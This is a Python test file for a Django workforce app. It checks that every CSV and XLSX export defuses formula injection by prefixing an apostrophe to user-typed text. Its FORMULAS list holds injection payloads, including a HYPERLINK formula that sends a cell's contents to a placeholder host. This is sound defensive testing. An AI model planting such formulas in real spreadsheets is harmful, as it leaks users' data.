"""Every spreadsheet export defuses text a spreadsheet would run as a formula.

The test walks every route that answers with a CSV or XLSX file: each must be one of the
cases below (a new export fails the test until it is added). Each case stores text a
person typed, written as formulas, where that export shows it, downloads the file in
every format, and checks that the text comes out with a leading apostrophe, never as a
formula cell and never as it was typed.
"""

import csv
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

from tests.equity import report_data
from tests.factories import ParticipantFactory
from workbridge.employers.models import Employer
from workbridge.equity.services import flow_counts_refresh
from workbridge.web import exports

# What people type that a spreadsheet would otherwise run: a link that sends the sheet's
# cells away, sums, and a function call.
FORMULAS = ['=HYPERLINK("http://example.org/?d="&A1,"Open")', "+1", "-2+3", "@SUM(A1:A2)"]
IMMEDIATE = {"default": {"BACKEND": "django.tasks.backends.immediate.ImmediateBackend"}}


def cells_of(response, fmt: str) -> list[str]:
    """Every text cell of a downloaded file; an XLSX formula cell fails the test."""
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if fmt == "csv":
        text = body.decode("utf-8").removeprefix("\ufeff")
        return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    texts = []
    for sheet in load_workbook(io.BytesIO(body)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def assert_defused(cells: list[str]) -> None:
    for typed in FORMULAS:
        assert typed not in cells
        assert "'" + typed in cells


# The cases: each stores the formulas where its export shows them and returns the responses.


def caseload(client, coach, **_personas):
    for typed in FORMULAS:
        ParticipantFactory(
            organisation=coach.membership.organisation, assigned_to=coach, first_name=typed
        )
    client.force_login(coach)
    return {fmt: client.get(reverse("people:export", args=[fmt])) for fmt in ("csv", "xlsx")}


def exit_readiness(client, coach, **_personas):
    """The readiness report names each question as the organisation typed it."""
    from tests.factories import make_user
    from workbridge.accounts.models import Role
    from workbridge.people.services import instrument_for

    organisation = coach.membership.organisation
    instrument = instrument_for(organisation)
    for position, typed in enumerate(FORMULAS, start=100):
        instrument.items.create(position=position, text=typed)
    director = make_user("dora", Role.MANAGER, organisation)
    client.force_login(director)
    return {
        fmt: client.get(reverse("people:exit_readiness_export", args=[fmt]))
        for fmt in ("csv", "xlsx")
    }


def employer_list(client, coach, **_personas):
    for typed in FORMULAS:
        Employer.objects.create(organisation=coach.membership.organisation, name=typed)
    client.force_login(coach)
    return {fmt: client.get(reverse("employers:export", args=[fmt])) for fmt in ("csv", "xlsx")}


def prepared_export(
    client, coach, settings, monkeypatch, django_capture_on_commit_callbacks, **_personas
):
    """A list too long for the request, prepared by the worker and then downloaded."""
    settings.TASKS = IMMEDIATE
    monkeypatch.setattr(exports, "SYNC_MAX_ROWS", 1)
    for typed in FORMULAS:
        ParticipantFactory(
            organisation=coach.membership.organisation, assigned_to=coach, first_name=typed
        )
    client.force_login(coach)
    responses = {}
    for fmt in ("csv", "xlsx"):
        with django_capture_on_commit_callbacks(execute=True):
            client.post(reverse("people:export", args=[fmt]))
        job = exports.ExportJob.objects.filter(fmt=fmt).get()
        responses[fmt] = client.get(reverse("export_download", args=[job.pk]))
    return responses


def _departments(organisation):
    for typed in FORMULAS:
        req = report_data.requisition(organisation, year=2025, department=typed, job_title=typed)
        report_data.applicants(organisation, req, "white", "female", report_data.HIRED, 2)
        report_data.applicants(organisation, req, "black", "male", report_data.HIRED, 2)
    flow_counts_refresh(organisation=organisation)


def equity_report(client, analyst, **_personas):
    """The source-channel report: a row for each way applicants heard about the job, as the
    imported file wrote it."""
    organisation = analyst.membership.organisation
    req = report_data.requisition(organisation, year=2025)
    for typed in FORMULAS:
        report_data.applicants(
            organisation, req, "white", "female", report_data.HIRED, 2, heard_about=typed
        )
    flow_counts_refresh(organisation=organisation)
    client.force_login(analyst)
    return {
        fmt: client.get(reverse("equity:report_export", args=["yield", fmt]), {"year": "2025"})
        for fmt in ("csv", "xlsx")
    }


def impact_analysis(client, analyst, **_personas):
    """The adverse-impact workbook, filtered to each job title: its notes name the filter."""
    organisation = analyst.membership.organisation
    _departments(organisation)
    client.force_login(analyst)
    cells = []
    for typed in FORMULAS:
        cells += cells_of(client.get(reverse("equity:impact_xlsx"), {"job_title": typed}), "xlsx")
    return {"xlsx": cells}


def survey_results(client, analyst, **_personas):
    from tests.surveys.conftest import invite, make_survey, make_wave, question
    from workbridge.surveys.models import Invitation
    from workbridge.surveys.services import response_submit

    wave = make_wave(make_survey(analyst.membership.organisation, analyst), analyst)
    satisfied = question(wave, "satisfied")
    for d, typed in enumerate(FORMULAS):  # departments as the address list typed them
        people = [(f"d{d}p{n}@example.org", "en", typed) for n in range(10)]
        invite(wave, analyst, people)
        for email, _language, _department in people:
            invitation = Invitation.objects.get(wave=wave, email=email)
            response_submit(invitation=invitation, answers={satisfied: 4}, language="en")
    client.force_login(analyst)
    return {
        fmt: client.get(
            reverse("surveys:results_export", args=[wave.pk, fmt]), {"by": "department"}
        )
        for fmt in ("csv", "xlsx")
    }


def _plan_with_formulas(analyst):
    from workbridge.plans.services import action_add, goal_area_add, plan_create, strategy_add

    plan = plan_create(data={"title": "Plan", "year": 2026}, by=analyst)
    goal = goal_area_add(plan=plan, title="Goal", by=analyst)
    strategy = strategy_add(goal_area=goal, title="Strategy", by=analyst)
    for typed in FORMULAS:  # actions as the plan's file typed them
        action_add(strategy=strategy, data={"title": typed}, by=analyst)
    return plan


def plan_export(client, analyst, **_personas):
    plan = _plan_with_formulas(analyst)
    client.force_login(analyst)
    return {"xlsx": client.get(reverse("plans:export", args=[plan.pk]))}


def plan_report(client, analyst, **_personas):
    plan = _plan_with_formulas(analyst)
    client.force_login(analyst)
    return {"xlsx": client.get(reverse("plans:report_xlsx", args=[plan.pk]))}


def _impact_employers(coach, settings):
    """One employer named as each formula, each with one hire in the second quarter of
    2026; every count shown (a threshold of one)."""
    from datetime import date
    from decimal import Decimal

    from workbridge.placements.models import Placement

    settings.WORKBRIDGE_SMALL_CELL = 1
    organisation = coach.membership.organisation
    employers = []
    for typed in FORMULAS:
        employer = Employer.objects.create(organisation=organisation, name=typed)
        Placement.objects.create(
            organisation=organisation,
            participant=ParticipantFactory(organisation=organisation),
            employer=employer,
            job_title="Cook",
            started_on=date(2026, 5, 1),
            hourly_wage=Decimal("18.00"),
            hours_per_week=40,
        )
        employers.append(employer)
    return employers


IMPACT_QUARTER = {"kind": "custom", "since": "2026-04-01", "until": "2026-06-30"}


def impact_program(client, coach, settings, **_personas):
    """The program's workbook: its top employers by name."""
    _impact_employers(coach, settings)
    client.force_login(coach)
    return {"xlsx": client.get(reverse("employers:impact_program_xlsx"), IMPACT_QUARTER)}


def impact_report(client, coach, settings, **_personas):
    """An employer's CSV appendix names the employer."""
    employers = _impact_employers(coach, settings)
    client.force_login(coach)
    cells = []
    for employer in employers:
        url = reverse("employers:impact_report_csv", args=[employer.pk])
        cells += cells_of(client.get(url, IMPACT_QUARTER), "csv")
    return {"csv": cells}


def _roster(organisation, rows, as_of=None):
    """A roster of (department, job title) rows, two employees each."""
    from datetime import date

    from workbridge.workforce.models import Employee, Snapshot

    snapshot = Snapshot.objects.create(
        organisation=organisation, as_of=as_of or date(2025, 3, 1), employees=2 * len(rows)
    )
    for n, (department, title) in enumerate(rows):
        for k in range(2):
            Employee.objects.create(
                snapshot=snapshot,
                employee_key=f"k{n}-{k}",
                department=department,
                job_title=title,
                pay_basis="salary",
                annual_pay=50_000 + 1_000 * k,
                eeo_category="white" if k else "black",
                sex="female",
            )
    return snapshot


def workforce_report(client, analyst, **_personas):
    """The pay report: a row for each job title, as the roster wrote it."""
    _roster(analyst.membership.organisation, [("Water", typed) for typed in FORMULAS])
    client.force_login(analyst)
    return {
        fmt: client.get(reverse("workforce:report_export", args=["pay", fmt]))
        for fmt in ("csv", "xlsx")
    }


def workforce_program(client, analyst, **_personas):
    """The learning report: a row for each department, as the roster wrote it."""
    from workbridge.workforce.models import LearningRecord

    organisation = analyst.membership.organisation
    _roster(organisation, [(typed, "Clerk") for typed in FORMULAS])
    LearningRecord.objects.create(
        organisation=organisation,
        kind="continuing",
        program="Excel",
        employee_key="k0-0",
        year=2025,
        status="completed",
    )
    client.force_login(analyst)
    return {
        fmt: client.get(reverse("workforce:program_export", args=["learning", fmt]))
        for fmt in ("csv", "xlsx")
    }


CASES = {
    "plans:export": plan_export,
    "plans:report_xlsx": plan_report,
    "people:export": caseload,
    "people:exit_readiness_export": exit_readiness,
    "employers:export": employer_list,
    "export_download": prepared_export,
    "equity:report_export": equity_report,
    "equity:impact_xlsx": impact_analysis,
    "surveys:results_export": survey_results,
    "employers:impact_program_xlsx": impact_program,
    "employers:impact_report_csv": impact_report,
    "workforce:report_export": workforce_report,
    "workforce:program_export": workforce_program,
}
# Exports whose cells hold no text a person typed: groups and figures only, or a fixed
# template. They are written by the same writer (workbridge.core.spreadsheets).
NO_TYPED_TEXT = {
    "placements:outcomes_export": "groups are choices, figures are numbers",
    "interviews:impact_export": "groups are choices, figures are numbers",
    "interviews:composition_export": "groups are choices, figures are numbers",
    "equity:workforce_template": "a fixed template",
    "sourcing:fair_template": "a fixed template",
    "equity:process_sessions_template": "a fixed template",
    "equity:process_steps_template": "a fixed template",
}


def spreadsheet_routes() -> set[str]:
    """The names of every route that answers with a CSV or XLSX file."""
    found = set()

    def walk(patterns, namespace=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
                walk(pattern.url_patterns, inner)
            elif isinstance(pattern, URLPattern) and pattern.name:
                route = str(pattern.pattern)
                if any(mark in route for mark in ("export", ".csv", ".xlsx")):
                    found.add(f"{namespace}{pattern.name}")

    walk(get_resolver().url_patterns)
    return found - {"export_job"}  # the page that offers a prepared file, not the file


def test_every_spreadsheet_export_is_walked_here():
    assert spreadsheet_routes() == set(CASES) | set(NO_TYPED_TEXT)


@pytest.mark.parametrize("name", sorted(CASES))
def test_it_defuses_formulas_typed_into_what_an_export_shows(
    name,
    client,
    coach,
    analyst,
    settings,
    monkeypatch,
    django_capture_on_commit_callbacks,
):
    # given text written as formulas, stored where the export shows it; when downloaded
    responses = CASES[name](
        client,
        coach=coach,
        analyst=analyst,
        settings=settings,
        monkeypatch=monkeypatch,
        django_capture_on_commit_callbacks=django_capture_on_commit_callbacks,
    )
    # then every format has it with a leading apostrophe, and no formula cell
    # (every format the export offers; the impact report's appendix is a CSV only)
    assert set(responses) >= ({"csv"} if name == "employers:impact_report_csv" else {"xlsx"})
    for fmt, response in responses.items():
        assert_defused(response if isinstance(response, list) else cells_of(response, fmt))
